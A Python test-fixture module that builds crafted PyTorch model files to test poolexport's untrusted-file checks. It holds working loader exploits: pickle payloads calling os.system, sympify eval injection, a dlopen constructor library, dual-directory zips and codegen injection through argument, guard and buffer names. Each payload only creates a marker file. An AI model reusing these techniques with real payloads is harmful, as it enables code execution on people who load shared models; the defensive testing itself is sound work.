"""Crafted model files from an outside review of poolexport's untrusted-file checks, and
three more found while reading torch 2.13's loaders. Each builder is
``build_X(dst: Path, marker: Path) -> Path``: it writes a model file to ``dst`` whose
payload creates ``marker`` when plain torch handles the file the way a user would, and
returns ``dst``. :data:`ATTACKS` names every builder with its trigger, a key of
:data:`TRIGGERS`: ``"pt2"`` is ``torch.export.load(f).module()(x)``, ``"ts"`` is
``torch.jit.load(f)(x)``, ``"pt2-interpreter"`` runs the program's graph with
``torch.fx.Interpreter`` (what torch's own load-time warning advises for a graph that FX
cannot write as Python).

Each file is built the way an attacker would: start from a real file (``torch.export.save``
or ``torch.jit.save`` of a small network of poolexport layers, :func:`base_pt2` and
:func:`base_ts`), change the few bytes the attack needs and keep everything else valid, so
that a loader which refuses the file refuses it for the attack and nothing else. All but
the AOTInductor file still load and run normally once the payload has run.

The payloads create the marker with ``touch`` (``os.system``) or, for native code and
raw file writes, with ``open``/``from_file``. The marker path is written into the file, so a
builder is called once per marker. Paths with quotes, backslashes or newlines are refused
(several payloads are pasted into Python source text).
"""
from __future__ import annotations

import atexit
import base64
import io
import json
import operator
import os
import pickle
import shlex
import shutil
import struct
import subprocess
import tempfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import torch

INPUT_SHAPE = (2, 3, 8, 8)  # the input of the base networks (and of every attack file built from them)
EXTRA_FILE = "poolexport.json"  # a TorchScript archive's stored input shape (poolexport._loading.EXTRA_FILE)


# ------------------------------------------------------------------ payloads
class _Payload:
    """Unpickling this runs ``touch MARKER`` (pickle calls ``os.system``)."""

    def __init__(self, marker):
        self.marker = os.fspath(marker)

    def __reduce__(self):
        return os.system, ("touch " + shlex.quote(self.marker),)


def payload_pickle(marker, protocol: int = 2) -> bytes:
    return pickle.dumps(_Payload(marker), protocol=protocol)


class _Zeros:
    def __reduce__(self):
        return torch.zeros, (1,)


class _PayloadThenTensor:
    """Unpickling this runs the payload, then returns ``torch.zeros(1)``:
    ``operator.getitem((os.system(...), torch.zeros(1)), 1)``, so a loader that
    type-checks what it unpickled finds an ordinary tensor."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return operator.getitem, ((_Payload(self.marker), _Zeros()), 1)


def payload_pickle_returning_tensor(marker, protocol: int = 2) -> bytes:
    return pickle.dumps(_PayloadThenTensor(marker), protocol=protocol)


def _plain_path(marker) -> str:
    path = os.fspath(marker)
    if any(c in path for c in "'\"\\\n\r"):
        raise ValueError(f"marker path {path!r}: quotes, backslashes and newlines are not supported")
    return path


def _shell(marker) -> str:
    return "touch " + _plain_path(marker)


def _py_str_without_dots(text: str) -> str:
    """A Python expression for ``text`` with no '.' and no single quote in its source:
    ``"a"+chr(46)+"b"`` (for places that split on dots or quote with ')."""
    return "+chr(46)+".join(json.dumps(part) for part in text.split("."))


def _system_call(marker) -> str:
    """Python source that runs ``touch MARKER``; no dots, no single quotes."""
    return f'getattr(__import__("os"), "system")({_py_str_without_dots(_shell(marker))})'


def _sympy_payload(marker) -> str:
    return f"__import__('os').system({_shell(marker)!r})"


# ------------------------------------------------------------------ the real files the attacks start from
_TMP: list[Path] = []
_BASES: dict[str, Path] = {}


def use_scratch_folder(folder: Path) -> None:
    """Build the base files and intermediate files in ``folder`` (e.g. a pytest temporary
    folder) instead of a temporary folder removed at exit."""
    _TMP[:] = [Path(folder)]
    _BASES.clear()


def _scratch() -> Path:
    if not _TMP:
        folder = Path(tempfile.mkdtemp(prefix="poolexport-attacks-"))
        atexit.register(shutil.rmtree, folder, True)
        _TMP.append(folder)
    return _TMP[0]


def base_network() -> torch.nn.Module:
    """A small network of poolexport layers (conv, SoftPool, ReLU)."""
    import poolexport.nn as pnn

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3, padding=1), pnn.SoftPool2d(2, 2), torch.nn.ReLU()).eval()


def _export(module: torch.nn.Module):
    x = torch.randn(*INPUT_SHAPE)
    return torch.export.export(module, (x,), dynamic_shapes=({0: torch.export.Dim.DYNAMIC},))


def base_pt2() -> Path:
    """``torch.export.save`` of :func:`base_network` with a dynamic batch (archive folder
    ``attack_base/``). Built once per process."""
    if "pt2" not in _BASES:
        path = _scratch() / "attack_base.pt2"
        torch.export.save(_export(base_network()), os.fspath(path))
        _BASES["pt2"] = path
    return _BASES["pt2"]


TAG = "poolexport-attack-base"  # the value of TaggedNet's string slot


class TaggedNet(torch.nn.Module):
    """A scripted wrapper with a string attribute around a traced network (poolexport's
    layers trace but do not script): an ordinary TorchScript archive with a ``str`` slot in
    its ``data.pkl``."""

    def __init__(self, inner):
        super().__init__()
        self.inner = inner
        self.tag = TAG

    def forward(self, x):
        return self.inner(x)


def base_ts() -> Path:
    """``torch.jit.save`` of :func:`base_network` (traced, inside :class:`TaggedNet`), with its
    input shape stored as poolexport's extra file. Built once per process."""
    if "ts" not in _BASES:
        path = _scratch() / "attack_base.ts"
        with torch.no_grad():
            traced = torch.jit.trace(base_network(), (torch.randn(*INPUT_SHAPE),), check_trace=False)
        scripted = torch.jit.script(TaggedNet(traced))
        torch.jit.save(scripted, os.fspath(path), _extra_files={EXTRA_FILE: json.dumps({"input_shape": INPUT_SHAPE})})
        _BASES["ts"] = path
    return _BASES["ts"]


# ------------------------------------------------------------------ zip editing
def _entries(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(info.filename, z.read(info)) for info in z.infolist()]


def _prefix(data: bytes) -> str:
    return _entries(data)[0][0].split("/", 1)[0]


def _write_zip(dst: Path, entries) -> Path:
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return dst


def _edited(src: Path, edit: Callable[[str, bytes], bytes | None], extra=()) -> list[tuple[str, bytes]]:
    out = []
    for name, data in _entries(src.read_bytes()):
        new = edit(name, data)
        if new is not None:
            out.append((name, new))
    return out + list(extra)


def _edit_program(change: Callable[[dict], None]) -> Callable[[str, bytes], bytes]:
    """An entry editor that applies ``change`` to the parsed ``models/model.json``."""
    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("/models/model.json"):
            program = json.loads(data)
            change(program)
            return json.dumps(program).encode()
        return data
    return edit


def _with_sympy_payload(program_json: bytes, marker) -> bytes:
    """The program with its first symbolic shape turned into ``Add(<payload>*0, expr)``:
    torch parses ``expr_str`` with ``sympy.sympify``, i.e. ``eval``, when it loads the file."""
    text = program_json.decode()
    start = text.index('"expr_str": "') + len('"expr_str": "')
    end = text.index('"', start)
    expr = json.loads('"' + text[start:end] + '"')
    evil = json.dumps(f"Add({_sympy_payload(marker)} * 0, {expr})")[1:-1]
    return (text[:start] + evil + text[end:]).encode()


# ------------------------------------------------------------------ class 1: names the checker does not parse
def build_models_entry_without_json_suffix(dst: Path, marker: Path) -> Path:
    """A second program under ``models/`` whose name does not end in ``.json``.

    torch (``_load_exported_programs``) deserializes every entry that starts with
    ``models/``, whatever its suffix: it cuts ``len(".json")`` characters off the end to get
    the model's name, so ``models/model_orig`` is another copy of program ``"model"``
    (same weights, sample inputs). Its first symbolic shape carries a ``sympify`` payload,
    which runs during ``torch.export.load``. A checker that parses only ``models/*.json``
    reads ``model.json`` (clean) and never this one.
    """
    src = base_pt2()
    prefix = _prefix(src.read_bytes())
    program = dict(_entries(src.read_bytes()))[f"{prefix}/models/model.json"]
    extra = [(f"{prefix}/models/model_orig", _with_sympy_payload(program, marker))]
    return _write_zip(dst, _edited(src, lambda n, d: d, extra=extra))


# ------------------------------------------------------------------ class 2: constants unpickled by path prefix
def _constant_config(path_name: str, payload: bytes, raw: bool) -> bytes:
    if raw:  # declared as raw uint8 storage: torch still picks the loader by the path's prefix
        meta = {"dtype": 1, "sizes": [{"as_int": len(payload)}], "requires_grad": False,
                "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
                "storage_offset": {"as_int": 0}, "layout": 7}
        entry = {"path_name": path_name, "is_param": False, "use_pickle": False, "tensor_meta": meta}
    else:
        entry = {"path_name": path_name, "is_param": False, "use_pickle": True, "tensor_meta": None}
    return json.dumps({"config": {"c": entry}}).encode()


def _pt2_with_constant(dst: Path, path_name: str, payload: bytes, raw: bool = False) -> Path:
    src = base_pt2()
    prefix = _prefix(src.read_bytes())

    def edit(name, data):
        if name.endswith("/data/constants/model_constants_config.json"):
            return _constant_config(path_name, payload, raw)
        return data
    return _write_zip(dst, _edited(src, edit, extra=[(f"{prefix}/data/constants/{path_name}", payload)]))


def build_opaque_obj_in_subfolder(dst: Path, marker: Path) -> Path:
    """An opaque-object constant at ``data/constants/opaque_obj_dir/payload``.

    ``_load_constants`` (pt2_archive/_package.py) picks the loader by the config's
    ``path_name`` prefix: anything starting ``opaque_obj_`` goes to ``pickle.loads`` (not
    ``torch.load``, so poolexport's weights-only patch does not apply). A check of the
    entry's base name (``payload``) misses it; the pickle itself is protocol 2. In all three
    ``opaque_obj`` files the pickle runs the payload and then returns ``torch.zeros(1)``, so
    the program loads and runs normally.
    """
    return _pt2_with_constant(dst, "opaque_obj_dir/payload", payload_pickle_returning_tensor(marker))


def build_opaque_obj_declared_raw(dst: Path, marker: Path) -> Path:
    """The same constant declared as raw tensor storage (``use_pickle: false`` with a uint8
    ``tensor_meta``) in ``model_constants_config.json``.

    torch builds the raw storage for it (``_build_file_map``) and then, because the path
    starts ``opaque_obj_``, passes the same bytes to ``pickle.loads``. A checker that skips
    entries its config declares raw never looks at the bytes.
    """
    return _pt2_with_constant(dst, "opaque_obj_dir/payload", payload_pickle_returning_tensor(marker), raw=True)


def build_opaque_obj_protocol0(dst: Path, marker: Path) -> Path:
    """The opaque-object constant (in the sub-folder, declared pickled) as a protocol-0 pickle
    (text opcodes, ``c_operator\\ngetitem``, ``cposix\\nsystem``).

    ``pickle.loads`` reads every protocol; a sniff for pickles that looks for the
    ``0x80 0x02..0x05`` header of protocols 2-5 does not see this one.
    """
    return _pt2_with_constant(dst, "opaque_obj_dir/payload", payload_pickle_returning_tensor(marker, protocol=0))


def opaque_object_state(marker) -> bytes:
    """``__setstate__`` argument of TorchBind's ``aten.OpaqueObject``: base64 of a pickle.
    torch/csrc/jit/python/opaque_obj.h: ``pickle.loads(base64.b64decode(state))``."""
    return base64.b64encode(payload_pickle(marker))


def _binunicode(data: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(data)) + data


def _opaque_object_pickle_ops(marker) -> bytes:
    """Pickle opcodes that build a ``__torch__.torch.classes.aten.OpaqueObject`` in the
    TorchScript unpickler: GLOBAL, NEWOBJ, state, BUILD (BUILD calls ``__setstate__``)."""
    return (b"c__torch__.torch.classes.aten\nOpaqueObject\n)\x81" + _binunicode(opaque_object_state(marker)) + b"b")


def build_custom_obj_opaque_object(dst: Path, marker: Path) -> Path:
    """A TorchBind constant ``data/constants/custom_obj_0`` holding an ``aten.OpaqueObject``.

    torch loads ``custom_obj_*`` constants with ``torch._C._pickle_load_obj`` (TorchScript's
    unpickler, a zip with ``archive/data.pkl``); that unpickler rebuilds custom classes by
    calling their ``__setstate__``, and ``OpaqueObject``'s is ``pickle.loads`` of the
    base64 state. So a "TorchScript pickle" runs arbitrary Python pickles, and no
    ``torch.load`` is involved.
    """
    template = torch._C._pickle_save(TAG)
    payload = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as zin, zipfile.ZipFile(payload, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("/data.pkl"):
                old = _binunicode(TAG.encode())
                if data.count(old) != 1:
                    raise AssertionError("unexpected torch._C._pickle_save layout")
                data = data.replace(old, _opaque_object_pickle_ops(marker))
            zout.writestr(info, data)
    return _pt2_with_constant(dst, "custom_obj_0", payload.getvalue())


# ------------------------------------------------------------------ class 3: native code
_CONSTRUCTOR_C = r"""
#include <fcntl.h>
#include <unistd.h>
__attribute__((constructor)) static void poolexport_attack(void) {
    int fd = open(%s, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0) close(fd);
}
"""


def build_aoti_shared_library(dst: Path, marker: Path) -> Path:
    """An AOTInductor package inside the archive: ``data/aotinductor/model/wrapper.so`` and
    ``wrapper_metadata.json`` (``{"AOTI_DEVICE_KEY": "cpu"}``).

    ``load_pt2`` turns every ``data/aotinductor/<name>/`` folder into an
    ``AOTIModelPackageLoader``, which extracts the ``.so`` to a temporary folder and
    ``dlopen``s it, during ``torch.export.load`` (a buffer is first written to a temporary
    file). The library's ``__attribute__((constructor))`` runs at ``dlopen``, before torch
    looks for the AOTInductor entry points (and fails: the load then raises, too late).
    Needs gcc.
    """
    work = Path(tempfile.mkdtemp(prefix="aoti-", dir=_scratch()))
    source = work / "wrapper.c"
    source.write_text(_CONSTRUCTOR_C % json.dumps(_plain_path(marker)))
    library = work / "wrapper.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(library), str(source)], check=True, capture_output=True)
    src = base_pt2()
    prefix = _prefix(src.read_bytes())
    metadata = json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode()
    extra = [(f"{prefix}/data/aotinductor/model/wrapper.so", library.read_bytes()),
             (f"{prefix}/data/aotinductor/model/wrapper_metadata.json", metadata)]
    return _write_zip(dst, _edited(src, lambda n, d: d, extra=extra))


# ------------------------------------------------------------------ class 4: the pre-2.8 layout
def build_legacy_layout(dst: Path, marker: Path) -> Path:
    """The layout ``torch.export.save`` wrote before 2.8: ``version``,
    ``serialized_exported_program.json``, ``serialized_state_dict.pt``,
    ``serialized_constants.pt`` and ``serialized_example_inputs.pt`` at the zip's root
    (written here with torch's own ``serialize``).

    ``torch.export.load`` first tries the PT2 archive reader, which fails (no
    ``archive_format``), then falls back to its old reader (Python's zipfile) and
    deserializes ``serialized_exported_program.json``: its symbolic shape runs through
    ``sympify``. A checker that parses program JSON only under ``models/`` never reads it.
    """
    from torch._export.serde.schema import SCHEMA_VERSION
    from torch._export.serde.serialize import serialize

    artifact = serialize(torch.export.load(os.fspath(base_pt2())))
    entries = [
        ("version", ".".join(str(v) for v in SCHEMA_VERSION).encode()),
        ("serialized_exported_program.json", _with_sympy_payload(artifact.exported_program, marker)),
        ("serialized_state_dict.pt", artifact.state_dict),
        ("serialized_constants.pt", artifact.constants),
        ("serialized_example_inputs.pt", artifact.example_inputs),
    ]
    return _write_zip(dst, entries)


# ------------------------------------------------------------------ class 5: two readers, two archives
def _local_header(name: bytes, data: bytes) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data), len(data),
                       len(name), 0) + name + data


def _central_header(name: bytes, data: bytes, offset: int, comment: bytes = b"") -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(data), len(data),
                       len(data), len(name), 0, len(comment), 0, 0, 0, offset) + name + comment


def dual_directory_zip(clean: bytes, evil: bytes) -> bytes:
    """One file, two archives: Python's ``zipfile`` reads ``clean``, torch's miniz reader
    (``torch._C.PyTorchFileReader``, used by ``torch.export.load`` and ``torch.jit.load``)
    reads ``evil``.

    Layout: ``[padding][evil entries][evil central directory][clean entries][clean central
    directory][end record]``. The end record gives the evil directory's offset and the
    (equal) size of both directories. miniz seeks to the recorded offset. Python's zipfile
    takes the directory that ends at the end record and treats the difference from the
    recorded offset as bytes prepended to the archive (it supports self-extracting
    archives), adding it to every entry offset of the clean directory, which are written
    accordingly. Both directories hold the same number of entries and the same number of
    bytes (padded with empty entries and a comment).
    """
    clean_entries = [(n.encode(), d) for n, d in _entries(clean)]
    evil_entries = [(n.encode(), d) for n, d in _entries(evil)]
    for entries, src in ((clean_entries, clean), (evil_entries, evil)):
        while len(entries) < max(len(clean_entries), len(evil_entries)):
            entries.append((f"{_prefix(src)}/.data/pad_{len(entries)}".encode(), b""))

    def directory_size(entries, comment=b""):
        return sum(46 + len(n) for n, _ in entries) + len(comment)
    size_clean, size_evil = directory_size(clean_entries), directory_size(evil_entries)
    comment_clean = b" " * max(0, size_evil - size_clean)
    comment_evil = b" " * max(0, size_clean - size_evil)
    size = directory_size(clean_entries, comment_clean)
    assert size == directory_size(evil_entries, comment_evil)

    clean_locals = sum(30 + len(n) + len(d) for n, d in clean_entries)
    evil_locals = sum(30 + len(n) + len(d) for n, d in evil_entries)
    padding = max(0, clean_locals - evil_locals)

    out = bytearray(b"\0" * padding)
    evil_dir = []
    for i, (name, data) in enumerate(evil_entries):
        evil_dir.append(_central_header(name, data, len(out), comment_evil if i == len(evil_entries) - 1 else b""))
        out += _local_header(name, data)
    evil_dir_offset = len(out)
    out += b"".join(evil_dir)
    shift = size + clean_locals  # what Python's zipfile adds to the clean directory's offsets
    clean_dir = []
    for i, (name, data) in enumerate(clean_entries):
        clean_dir.append(_central_header(name, data, len(out) - shift,
                                         comment_clean if i == len(clean_entries) - 1 else b""))
        out += _local_header(name, data)
    out += b"".join(clean_dir)
    count = len(clean_entries)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, evil_dir_offset, 0)
    return bytes(out)


def build_dual_directory_pt2(dst: Path, marker: Path) -> Path:
    """A ``.pt2`` that is the clean base archive to Python's zipfile and, to torch's reader,
    the same archive with a ``sympify`` payload in ``models/model.json`` (runs during
    ``torch.export.load``). See :func:`dual_directory_zip`."""
    clean = base_pt2().read_bytes()
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w", zipfile.ZIP_STORED) as z:
        for name, data in _entries(clean):
            z.writestr(name, _with_sympy_payload(data, marker) if name.endswith("/models/model.json") else data)
    dst.write_bytes(dual_directory_zip(clean, evil.getvalue()))
    return dst


def build_dual_directory_torchscript(dst: Path, marker: Path) -> Path:
    """A TorchScript archive that is the clean base archive to Python's zipfile and, to
    ``torch.jit.load``, the :func:`build_torchscript_opaque_object` archive (payload at load
    time). See :func:`dual_directory_zip`."""
    clean = base_ts().read_bytes()
    evil_path = build_torchscript_opaque_object(_scratch() / f"dual-evil-{os.getpid()}-{id(dst)}.ts", marker)
    evil = evil_path.read_bytes()
    evil_path.unlink()
    dst.write_bytes(dual_directory_zip(clean, evil))
    return dst


# ------------------------------------------------------------------ class 6: forward_arg_names
def build_forward_arg_names(dst: Path, marker: Path) -> Path:
    """``module_call_graph[0].signature.forward_arg_names`` with Python source in it.

    ``ExportedProgram.module()`` (torch/export/_unlift.py ``_get_codegen``) hands these
    names to FX's ``_PyTreeCodeGen``, which pastes them unquoted into
    ``def forward(self, <names>):`` and into ``tree_flatten_spec(([<names>], {}), ...)``,
    then ``exec``s the module. The name here is

        x=<payload>):\\n    '''\\n    <input> = x\\n    _ = (([0

    so the signature gets a default value (evaluated when the ``def`` runs, i.e. inside
    ``.module()``), a docstring swallows the broken first copy of the binding line, the
    second copy closes it, and ``<input> = x`` rebinds the real input: the module still
    computes the right output.
    """
    def change(program):
        graph_module = program["graph_module"]
        user_input = next(spec["user_input"]["arg"]["as_tensor"]["name"]
                          for spec in graph_module["signature"]["input_specs"] if "user_input" in spec)
        name = f"x={_system_call(marker)}):\n    '''\n    {user_input} = x\n    _ = (([0"
        graph_module["module_call_graph"][0]["signature"]["forward_arg_names"] = [name]
    return _write_zip(dst, _edited(base_pt2(), _edit_program(change)))


# ------------------------------------------------------------------ also found
class FileWriterNet(torch.nn.Module):
    """``zeros(n, uint8).copy_(blob)`` before the base network: the attacker exports this,
    then turns ``zeros`` into ``from_file`` in the program JSON (``from_file`` has no fake
    kernel, so torch.export cannot trace it)."""

    def __init__(self, blob: bytes):
        super().__init__()
        self.net = base_network()
        self.register_buffer("blob", torch.tensor(list(blob), dtype=torch.uint8))

    def forward(self, x):
        scratch = torch.zeros(self.blob.numel(), dtype=torch.uint8)
        scratch.copy_(self.blob)
        return self.net(x)


def build_from_file_write(dst: Path, marker: Path) -> Path:
    """Graph nodes ``aten.from_file(MARKER, shared=True, size=n, dtype=uint8)`` and
    ``aten.copy_(that, blob)``: plain torch operators, so a check that accepts every
    ``torch.ops.aten`` target accepts them. When the program runs (``.module()(x)``),
    ``from_file`` maps MARKER shared (creating it) and ``copy_`` writes the attacker's
    bytes (a buffer of the program) into it: any file the user can write, any content.
    """
    blob = b"written by a model file\n"
    work = _scratch() / f"from-file-{os.getpid()}-{id(dst)}.pt2"
    torch.manual_seed(0)
    torch.export.save(_export(FileWriterNet(blob).eval()), os.fspath(work))

    def change(program):
        for node in program["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.aten.zeros.default":
                node["target"] = "torch.ops.aten.from_file.default"
                node["inputs"] = [
                    {"name": "filename", "arg": {"as_string": _plain_path(marker)}, "kind": 1},
                    {"name": "shared", "arg": {"as_bool": True}, "kind": 1},
                    {"name": "size", "arg": {"as_int": len(blob)}, "kind": 1},
                    {"name": "dtype", "arg": {"as_scalar_type": 1}, "kind": 2},
                ]
                return
        raise AssertionError("no zeros node to turn into from_file")
    _write_zip(dst, _edited(work, _edit_program(change)))
    work.unlink()
    return dst


def _hop_calling(operator_name: str, args: list[dict]) -> Callable[[dict], None]:
    """A program change that inserts, first in the graph, a node
    ``torch.ops.higher_order.wrap_with_set_grad_enabled(True, <as_operator operator_name>, *args)``
    returning None (no users)."""
    def change(program):
        node = {
            "target": "torch.ops.higher_order.wrap_with_set_grad_enabled",
            "inputs": [{"name": "", "arg": {"as_bool": True}, "kind": 1},
                       {"name": "", "arg": {"as_operator": operator_name}, "kind": 1}]
                      + [{"name": "", "arg": a, "kind": 1} for a in args],
            "outputs": [{"as_none": True}], "metadata": {}, "is_hop_single_tensor_return": None,
            "name": "wrap_with_set_grad_enabled",
        }
        program["graph_module"]["graph"]["nodes"].insert(0, node)
    return change


def build_as_operator_from_file(dst: Path, marker: Path) -> Path:
    """A node ``torch.ops.higher_order.wrap_with_set_grad_enabled(True, <as_operator
    "torch.ops.aten.from_file.default">, MARKER, True, 1)``.

    The node's target is a registered higher-order operator; the operator it runs is an
    *argument* (``{"as_operator": ...}``), which the deserializer resolves with
    ``deserialize_operator`` like a target, but which a check of node targets never sees.
    ``wrap_with_set_grad_enabled`` calls it with the remaining arguments when the module
    runs (``.module()(x)``): ``from_file(MARKER, shared=True, size=1)`` creates MARKER.
    """
    change = _hop_calling("torch.ops.aten.from_file.default",
                          [{"as_string": _plain_path(marker)}, {"as_bool": True}, {"as_int": 1}])
    return _write_zip(dst, _edited(base_pt2(), _edit_program(change)))


def build_as_operator_os_system(dst: Path, marker: Path) -> Path:
    """The same node with ``{"as_operator": "torch.os.system"}`` and ``"touch MARKER"``.

    ``deserialize_operator`` resolves any ``torch.<attr>.<attr>...`` path by attribute
    lookup, so ``torch.os.system`` is ``os.system``: ``torch.export.load`` returns a program
    whose graph calls it. FX cannot write a builtin function into generated code, so
    ``.module()`` raises SyntaxError; torch's own warning at load time says the program
    "can still run ... eagerly using torch.fx.Interpreter", and that runs the payload.
    """
    change = _hop_calling("torch.os.system", [{"as_string": _shell(marker)}])
    return _write_zip(dst, _edited(base_pt2(), _edit_program(change)))


def build_torchscript_named_pt2(dst: Path, marker: Path | None = None) -> Path:
    """Not an attack: the harmless base TorchScript archive saved under a ``.pt2`` name
    (``x.pt2``). It must export like any TorchScript archive."""
    shutil.copyfile(base_ts(), dst)
    return dst


# ------------------------------------------------------------------ new: found in torch 2.13's loaders
def build_torchscript_opaque_object(dst: Path, marker: Path) -> Path:
    """NEW. A TorchScript archive whose ``data.pkl`` holds a TorchBind
    ``aten.OpaqueObject`` (the slot ``tag``, retyped from ``str`` in the class's code).

    TorchScript's unpickler builds only tensors and TorchScript/TorchBind classes, and
    TorchScript code cannot import Python; but every TorchBind class with ``def_pickle``
    gets its C++ ``__setstate__`` called with state from the file, and torch registers
    ``aten.OpaqueObject`` (torch/csrc/jit/python/opaque_obj.h) whose ``__setstate__`` is
    ``pickle.loads(base64.b64decode(state))``: a full Python unpickle during
    ``torch.jit.load``. No code file changes beyond the slot's type, and no operator is
    called. The module loads and runs normally afterwards.
    """
    def edit(name, data):
        if name.endswith("/data.pkl"):
            old = _binunicode(TAG.encode())
            if data.count(old) != 1:
                raise AssertionError("base TorchScript archive: tag not found in data.pkl")
            return data.replace(old, _opaque_object_pickle_ops(marker))
        if name.endswith("/code/__torch__.py"):
            if b"tag : str" not in data:
                raise AssertionError("base TorchScript archive: no 'tag : str' slot")
            return data.replace(b"tag : str", b"tag : __torch__.torch.classes.aten.OpaqueObject")
        return data
    return _write_zip(dst, _edited(base_ts(), edit))


def build_guard_message_breakout(dst: Path, marker: Path) -> Path:
    """NEW. A guard that is harmless as an expression but breaks out of the error message
    torch generates for it.

    ``_convert_guards_code_to_fn`` (torch/export/_unlift.py) writes each guard ``g`` as
    ``torch._assert(<g>, "Guard failed: <ast.unparse(g)>")`` and ``exec``s it when
    ``.module()`` is called; the message is pasted between double quotes unescaped. The
    guard here is

        1 or L['"+str(<payload>)[:0]+"'] == 0

    As an expression it is a constant ``or`` a subscript of ``L`` by a string constant (the
    shape of guards torch writes: ``L['x'].size()[0]``), and it short-circuits, so an AST
    check of guards accepts it. ``ast.unparse`` writes the string constant in single quotes
    (it holds double quotes), and in the message it closes the ``"``, so the generated
    line calls the payload each time the module runs (``.module()(x)``). The module still
    returns the right output.
    """
    code = f'str(__import__("os").system("{_shell(marker)}"))[:0]'
    guard = f"""1 or L['"+{code}+"'] == 0"""

    def change(program):
        program["guards_code"] = list(program.get("guards_code") or []) + [guard]
    return _write_zip(dst, _edited(base_pt2(), _edit_program(change)))


def build_buffer_name_codegen(dst: Path, marker: Path) -> Path:
    """NEW. A buffer whose name is Python source, made with torch's own API
    (``register_buffer(name, ...)``, ``torch.export.export``, ``torch.export.save``: no byte
    is edited).

    ``ExportedProgram.module()`` turns every lifted parameter/buffer back into a
    ``get_attr`` node; FX writes its access with ``_format_target`` (torch/fx/graph.py),
    which for a name that is not an identifier writes ``getattr(self, "<name>")``,
    unescaped. The name (no dots, which FX would split on) is

        x") if <payload> else str("

    so the generated line is ``... = getattr(self, "x") if <payload> else str("")``: the
    payload runs each time the module runs, then the line yields ``""`` for the unused
    buffer. The checked parts of the program (targets, symbolic shapes, guards) are all
    ordinary, and the module computes the right output.
    """
    module = base_network()
    module.register_buffer(f'x") if {_system_call(marker)} else str("', torch.zeros(1))
    torch.export.save(_export(module), os.fspath(dst))
    return dst


# ------------------------------------------------------------------ the registry
# What a user does with each kind of file under plain torch (no poolexport checks);
# ``run_plain_torch.py``-style snippets, run as ``python -c SNIPPET FILE``.
_HEAD = "import sys, torch\nimport poolexport  # registers the poolexport:: operators the files call\n"
TRIGGERS = {
    # a .pt2: load it, get the module, run it
    "pt2": _HEAD + "torch.export.load(sys.argv[1]).module()(torch.randn(*%r))\n" % (INPUT_SHAPE,),
    # a TorchScript archive: load it, run it
    "ts": _HEAD + "torch.jit.load(sys.argv[1])(torch.randn(*%r))\n" % (INPUT_SHAPE,),
    # a .pt2 whose graph FX cannot write as Python: run it as torch's load-time warning says,
    # with torch.fx.Interpreter over the program's graph (parameters, buffers, then inputs)
    "pt2-interpreter": _HEAD + (
        "ep = torch.export.load(sys.argv[1])\n"
        "args = [torch.randn(*%r) if s.kind.name == 'USER_INPUT' else "
        "ep.state_dict.get(s.target, ep.constants.get(s.target)) for s in ep.graph_signature.input_specs]\n"
        "torch.fx.Interpreter(ep.graph_module).run(*args)\n") % (INPUT_SHAPE,),
}


@dataclass(frozen=True)
class Attack:
    build: Callable[[Path, Path], Path]
    trigger: str  # a key of TRIGGERS
    suffix: str  # the file name's suffix, as an attacker would send it
    group: str  # the review's class ("1".."6"), "also" (its other findings) or "new"


ATTACKS: dict[str, Attack] = {
    "models_entry_without_json_suffix": Attack(build_models_entry_without_json_suffix, "pt2", ".pt2", "1"),
    "opaque_obj_in_subfolder": Attack(build_opaque_obj_in_subfolder, "pt2", ".pt2", "2"),
    "opaque_obj_declared_raw": Attack(build_opaque_obj_declared_raw, "pt2", ".pt2", "2"),
    "opaque_obj_protocol0": Attack(build_opaque_obj_protocol0, "pt2", ".pt2", "2"),
    "custom_obj_opaque_object": Attack(build_custom_obj_opaque_object, "pt2", ".pt2", "2"),
    "aoti_shared_library": Attack(build_aoti_shared_library, "pt2", ".pt2", "3"),
    "legacy_layout": Attack(build_legacy_layout, "pt2", ".pt2", "4"),
    "dual_directory_pt2": Attack(build_dual_directory_pt2, "pt2", ".pt2", "5"),
    "dual_directory_torchscript": Attack(build_dual_directory_torchscript, "ts", ".pt", "5"),
    "forward_arg_names": Attack(build_forward_arg_names, "pt2", ".pt2", "6"),
    "from_file_write": Attack(build_from_file_write, "pt2", ".pt2", "also"),
    "as_operator_from_file": Attack(build_as_operator_from_file, "pt2", ".pt2", "also"),
    "as_operator_os_system": Attack(build_as_operator_os_system, "pt2-interpreter", ".pt2", "also"),
    "torchscript_opaque_object": Attack(build_torchscript_opaque_object, "ts", ".pt", "new"),
    "guard_message_breakout": Attack(build_guard_message_breakout, "pt2", ".pt2", "new"),
    "buffer_name_codegen": Attack(build_buffer_name_codegen, "pt2", ".pt2", "new"),
}


def cli_env(extra: dict | None = None) -> dict:
    """The environment of a poolexport/plain-torch child in the attack tests: no debug or
    test switches of ours, and the poolexport this process imported (the installed one, or
    a mutation run's copy), never the source tree by itself (no built library, models/ not
    yet poolexport.models)."""
    import poolexport

    env = {k: v for k, v in os.environ.items() if k not in ("POOLEXPORT_DEBUG", "POOLEXPORT_TEST_UNCHECKED_LOAD")}
    env["PYTHONPATH"] = str(Path(poolexport.__file__).resolve().parents[1]) + os.pathsep + env.get("PYTHONPATH", "")
    env.update(extra or {})
    return env

